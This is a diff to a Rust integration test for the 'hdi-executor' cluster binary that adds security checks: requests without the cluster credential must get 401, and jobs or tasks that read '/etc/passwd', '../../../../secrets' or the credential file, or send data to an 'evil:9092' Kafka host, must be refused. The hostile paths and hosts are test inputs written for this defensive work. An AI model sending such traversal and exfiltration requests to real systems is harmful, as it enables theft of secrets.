@@ -1,7 +1,10 @@
 //! The real `hdi-executor` binary as a driver and two workers on loopback: membership forms,
 //! a SIGKILLed worker is dropped, malformed registrations are refused with problem documents, a
 //! second process on a locked data directory, a worker whose driver refuses it and bad flags fail,
-//! and SIGTERM stops cleanly.
+//! and SIGTERM stops cleanly. Security: every endpoint but `/healthz` answers 401 without the
+//! cluster credential (a rogue worker cannot register, nobody can list or submit jobs or send a
+//! task), a worker reads no path a task names, a job reaching out of its files root is refused
+//! at submit, and a credential file others may read is refused.
 
 #![allow(clippy::unwrap_used, clippy::expect_used)]
 
@@ -119,6 +122,29 @@ fn scratch() -> PathBuf {
     Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("executor-cluster-{}", std::process::id()))
 }
 
+const CREDENTIAL: &str = "test-cluster-credential-0123456789abcdef";
+
+/// `--credential-file F --files-root D`, with the credential written to a 0600 file.
+fn cluster_flags() -> Vec<String> {
+    let dir = scratch();
+    std::fs::create_dir_all(&dir).unwrap();
+    let file = dir.join("credential");
+    hdi_stdx::secret::write_secret_file(&file, CREDENTIAL).unwrap();
+    vec![
+        "--credential-file".into(),
+        file.to_str().unwrap().into(),
+        "--files-root".into(),
+        dir.join("files").to_str().unwrap().into(),
+    ]
+}
+
+fn with_cluster_flags<'a>(args: &[&'a str], flags: &'a [String]) -> Vec<&'a str> {
+    args.iter()
+        .copied()
+        .chain(flags.iter().map(String::as_str))
+        .collect()
+}
+
 fn fresh_dir(name: &str) -> PathBuf {
     let dir = scratch().join(name);
     let _ = std::fs::remove_dir_all(&dir);
@@ -156,7 +182,18 @@ fn worker_ids(cluster: &Value) -> Vec<u64> {
 #[tokio::test]
 async fn driver_and_two_workers_form_a_cluster() {
     let ready_within = Duration::from_secs(10);
+    let flags = cluster_flags();
+    let mut headers = reqwest::header::HeaderMap::new();
+    headers.insert(
+        "authorization",
+        format!("Bearer {CREDENTIAL}").parse().unwrap(),
+    );
     let client = reqwest::Client::builder()
+        .timeout(Duration::from_secs(5))
+        .default_headers(headers)
+        .build()
+        .unwrap();
+    let anonymous = reqwest::Client::builder()
         .timeout(Duration::from_secs(5))
         .build()
         .unwrap();
@@ -165,15 +202,18 @@ async fn driver_and_two_workers_form_a_cluster() {
     let driver_dir_arg = driver_dir.to_str().unwrap();
     let mut driver = Process::start(
         "driver",
-        &[
-            "driver",
-            "--listen",
-            "127.0.0.1:0",
-            "--data-dir",
-            driver_dir_arg,
-            "--worker-timeout",
-            "2s",
-        ],
+        &with_cluster_flags(
+            &[
+                "driver",
+                "--listen",
+                "127.0.0.1:0",
+                "--data-dir",
+                driver_dir_arg,
+                "--worker-timeout",
+                "2s",
+            ],
+            &flags,
+        ),
     );
     let driver_addr = driver.ready(ready_within);
     let base = format!("http://{driver_addr}");
@@ -183,13 +223,10 @@ async fn driver_and_two_workers_form_a_cluster() {
     );
 
     // A second driver on the same data directory fails at once, naming the problem.
-    let (code, stderr) = run_to_exit(&[
-        "driver",
-        "--listen",
-        "127.0.0.1:0",
-        "--data-dir",
-        driver_dir_arg,
-    ]);
+    let (code, stderr) = run_to_exit(&with_cluster_flags(
+        &["driver", "--listen", "127.0.0.1:0", "--data-dir", driver_dir_arg],
+        &flags,
+    ));
     assert_eq!(code, 1, "{stderr}");
     assert!(
         stderr.contains("is in use by another hdi-executor"),
@@ -202,17 +239,20 @@ async fn driver_and_two_workers_form_a_cluster() {
         let dir = fresh_dir(&format!("worker-{id}"));
         let mut worker = Process::start(
             &format!("worker-{id}"),
-            &[
-                "worker",
-                "--id",
-                id,
-                "--listen",
-                "127.0.0.1:0",
-                "--driver",
-                &driver_addr,
-                "--data-dir",
-                dir.to_str().unwrap(),
-            ],
+            &with_cluster_flags(
+                &[
+                    "worker",
+                    "--id",
+                    id,
+                    "--listen",
+                    "127.0.0.1:0",
+                    "--driver",
+                    &driver_addr,
+                    "--data-dir",
+                    dir.to_str().unwrap(),
+                ],
+                &flags,
+            ),
         );
         worker_addrs.push(worker.ready(ready_within));
         workers.push(worker);
@@ -290,19 +330,24 @@ async fn driver_and_two_workers_form_a_cluster() {
     let cluster = get_json(&client, &format!("{base}/v1/cluster")).await;
     assert_eq!(worker_ids(&cluster), vec![1], "{cluster}");
 
+    security_checks(&client, &anonymous, &base, &worker_addrs[0], &flags).await;
+
     // A worker pointed at something that is not a driver (here worker 1) is refused: exit 1.
     let dir = fresh_dir("worker-9");
-    let (code, stderr) = run_to_exit(&[
-        "worker",
-        "--id",
-        "9",
-        "--listen",
-        "127.0.0.1:0",
-        "--driver",
-        &worker_addrs[0],
-        "--data-dir",
-        dir.to_str().unwrap(),
-    ]);
+    let (code, stderr) = run_to_exit(&with_cluster_flags(
+        &[
+            "worker",
+            "--id",
+            "9",
+            "--listen",
+            "127.0.0.1:0",
+            "--driver",
+            &worker_addrs[0],
+            "--data-dir",
+            dir.to_str().unwrap(),
+        ],
+        &flags,
+    ));
     assert_eq!(code, 1, "{stderr}");
     assert!(
         stderr.contains("refused worker 9's registration: 404"),
@@ -316,6 +361,157 @@ async fn driver_and_two_workers_form_a_cluster() {
     assert_eq!(driver.wait(Duration::from_secs(5)).code(), Some(0));
     drop(workers);
     let _ = std::fs::remove_dir_all(scratch());
+}
+
+/// The reproductions of the security review, against the running driver and worker 1.
+async fn security_checks(
+    client: &reqwest::Client,
+    anonymous: &reqwest::Client,
+    base: &str,
+    worker: &str,
+    flags: &[String],
+) {
+    // Without the credential (or with another one): 401 on every endpoint but /healthz.
+    let wrong = reqwest::Client::new();
+    for (method, url, body) in [
+        ("GET", format!("{base}/v1/cluster"), ""),
+        ("GET", format!("{base}/v1/jobs"), ""),
+        (
+            "PUT",
+            format!("{base}/v1/workers/77"),
+            r#"{"address":"127.0.0.1:39998","incarnation":"00000000-0000-0000-0000-000000000001"}"#,
+        ),
+        (
+            "PUT",
+            format!("{base}/v1/jobs/evil"),
+            r#"{"name":"evil","sql":"SELECT 1","bootstrap_servers":null}"#,
+        ),
+        ("DELETE", format!("{base}/v1/jobs/x"), ""),
+        ("POST", format!("http://{worker}/v1/tasks"), "{}"),
+        ("POST", format!("http://{worker}/v1/state"), ""),
+    ] {
+        for (who, request) in [
+            ("anonymous", anonymous.request(method.parse().unwrap(), &url)),
+            (
+                "wrong credential",
+                wrong
+                    .request(method.parse().unwrap(), &url)
+                    .bearer_auth("another-credential-0123456789abcdef"),
+            ),
+        ] {
+            let response = request.body(body).send().await.unwrap();
+            assert_eq!(response.status(), 401, "{who}: {method} {url}");
+            assert_eq!(response.headers()["www-authenticate"], "Bearer");
+            let problem: Value = response.json().await.unwrap();
+            assert_eq!(problem["code"], "unauthorized", "{problem}");
+        }
+    }
+    let cluster = get_json(client, &format!("{base}/v1/cluster")).await;
+    assert_eq!(worker_ids(&cluster), vec![1], "a rogue worker joined: {cluster}");
+    let jobs = get_json(client, &format!("{base}/v1/jobs")).await;
+    assert_eq!(jobs["jobs"], serde_json::json!([]), "{jobs}");
+
+    // The review's `loot` job: reading out of the files root is refused at submit, with the
+    // option and where it stands; so is an absolute path elsewhere and another Kafka cluster.
+    for (sql, option, line_column) in [
+        (
+            "CREATE TABLE loot (line TEXT) WITH (connector = 'files',\n  path = '../../../../secrets', dead_letter_topic = 'loot');\n\
+             CREATE TABLE sink WITH (connector = 'blackhole');\n\
+             INSERT INTO sink SELECT line FROM loot;",
+            "path",
+            (2, 3),
+        ),
+        (
+            "CREATE TABLE loot (line TEXT) WITH (connector = 'files', path = '/etc');\n\
+             CREATE TABLE sink WITH (connector = 'files', path = 'out');\n\
+             INSERT INTO sink SELECT line FROM loot;",
+            "path",
+            (1, 58),
+        ),
+        (
+            "CREATE TABLE src (line TEXT) WITH (connector = 'files', path = 'in');\n\
+             CREATE TABLE sink WITH (connector = 'kafka', topic = 't', bootstrap_servers = 'evil:9092');\n\
+             INSERT INTO sink SELECT line FROM src;",
+            "bootstrap_servers",
+            (2, 59),
+        ),
+    ] {
+        let body = serde_json::json!({"name": "loot", "sql": sql, "bootstrap_servers": null,
+            "allowed_kafka": ["127.0.0.1:9092"]});
+        for path in ["/v1/jobs/loot", "/v1/jobs/validate"] {
+            let request = if path.ends_with("validate") {
+                client.post(format!("{base}{path}"))
+            } else {
+                client.put(format!("{base}{path}"))
+            };
+            let response = request.json(&body).send().await.unwrap();
+            assert_eq!(response.status(), 400, "{path}: {sql}");
+            let problem: Value = response.json().await.unwrap();
+            assert_eq!(problem["code"], "invalid_option", "{problem}");
+            let detail = problem["detail"].as_str().unwrap();
+            assert!(detail.contains(&format!("option {option}")), "{problem}");
+            assert_eq!(
+                (problem["line"].as_u64(), problem["column"].as_u64()),
+                (Some(line_column.0), Some(line_column.1)),
+                "{problem}"
+            );
+        }
+    }
+    let jobs = get_json(client, &format!("{base}/v1/jobs")).await;
+    assert_eq!(jobs["jobs"], serde_json::json!([]), "{jobs}");
+
+    // A task naming a path instead of a file of its source directory reads nothing.
+    std::fs::create_dir_all(scratch().join("files/in")).unwrap();
+    let script = "CREATE TABLE src (line TEXT) WITH (connector = 'files', path = 'in');\n\
+                  CREATE TABLE sink WITH (connector = 'blackhole');\n\
+                  INSERT INTO sink SELECT line FROM src;";
+    for name in ["/etc/passwd", "../../../../../../etc/passwd", "../credential"] {
+        let task = serde_json::json!({"job_id": "x", "script": script, "bootstrap": null,
+            "batch_id": 0, "watermark_ms": null, "input": {"kind": "files", "names": [name]},
+            "tables": {}});
+        let response = client
+            .post(format!("http://{worker}/v1/tasks"))
+            .json(&task)
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(response.status(), 500, "{name}");
+        let body = response.text().await.unwrap();
+        assert!(!body.contains("root:") && !body.contains(CREDENTIAL), "{body}");
+    }
+    // The old wire form (paths) is not a task at all.
+    let response = client
+        .post(format!("http://{worker}/v1/tasks"))
+        .json(&serde_json::json!({"job_id": "x", "script": script, "bootstrap": null,
+            "batch_id": 0, "watermark_ms": null,
+            "input": {"kind": "files", "paths": ["/etc/passwd"]}, "tables": {}}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(response.status(), 400);
+
+    // A credential file that others may read is refused, naming the flag.
+    let loose = scratch().join("loose-credential");
+    std::fs::write(&loose, CREDENTIAL).unwrap();
+    std::fs::set_permissions(&loose, std::os::unix::fs::PermissionsExt::from_mode(0o644))
+        .unwrap();
+    let dir = fresh_dir("driver-loose");
+    let (code, stderr) = run_to_exit(&[
+        "driver",
+        "--listen",
+        "127.0.0.1:0",
+        "--data-dir",
+        dir.to_str().unwrap(),
+        "--credential-file",
+        loose.to_str().unwrap(),
+        "--files-root",
+        &flags[3],
+    ]);
+    assert_eq!(code, 1, "{stderr}");
+    assert!(
+        stderr.contains("--credential-file") && stderr.contains("chmod 600"),
+        "{stderr}"
+    );
 }
 
 #[test]
@@ -366,6 +562,8 @@ fn bad_flags_are_refused_by_name() {
             "--driver",
         ),
     ] {
+        let flags = cluster_flags();
+        let args = with_cluster_flags(&args, &flags);
         let (code, stderr) = run_to_exit(&args);
         assert_eq!(code, 2, "{args:?}: {stderr}");
         assert!(stderr.contains(flag), "{args:?}: {stderr}");
